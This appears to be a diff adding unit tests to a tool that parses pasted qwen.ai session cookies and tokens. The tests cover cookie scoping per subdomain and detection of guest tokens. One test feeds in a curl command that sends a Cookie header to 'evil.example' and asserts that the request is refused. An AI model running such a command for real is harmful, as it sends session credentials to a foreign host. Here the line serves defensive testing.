@@ -80,3 +80,35 @@ def test_no_paste_is_a_crash_or_breaks_a_header(text: str) -> None:
     pasted = read(text, NOW_S)
     if pasted.session is not None:
         assert all(value.isprintable() for value in pasted.session.cookies.values())
+
+
+def test_cookies_of_one_host_go_to_that_host_and_those_of_other_sites_nowhere() -> None:
+    told = [
+        {"name": "refresh_token", "value": "r", "domain": ".qwen.ai"},
+        {"name": "acw_tc", "value": "chat's", "domain": "chat.qwen.ai"},
+        {"name": "acw_tc", "value": "auth's", "domain": "auth.qwen.ai"},
+        {"name": "cna", "value": "both", "domain": "qwen.ai"},
+        {"name": "sid", "value": "google", "domain": ".google.com"},
+        {"name": "sid2", "value": "evil", "domain": "notqwen.ai"},
+        {"name": "sid3", "value": "odd", "domain": 5},
+    ]
+    session = read(json.dumps({"token": TOKEN, "cookies": told}), NOW_S).session
+
+    assert session is not None
+    assert session.cookies_at("chat") == {"refresh_token": "r", "acw_tc": "chat's", "cna": "both"}
+    assert session.cookies_at("auth") == {"refresh_token": "r", "acw_tc": "auth's", "cna": "both"}
+
+
+def test_a_request_to_another_site_is_not_taken() -> None:
+    pasted = read(f"curl 'https://evil.example/' -H 'Cookie: {HEADER}'", NOW_S)
+
+    assert pasted.session is None
+    assert "another site" in pasted.said[0]
+
+
+def test_a_guests_token_is_known() -> None:
+    claims = base64.urlsafe_b64encode(json.dumps({"is_guest": True}).encode()).decode()
+    session = read(f"eyJhbGciOiJIUzI1NiJ9.{claims.rstrip('=')}.c2ln", NOW_S).session
+
+    assert session is not None
+    assert session.guest
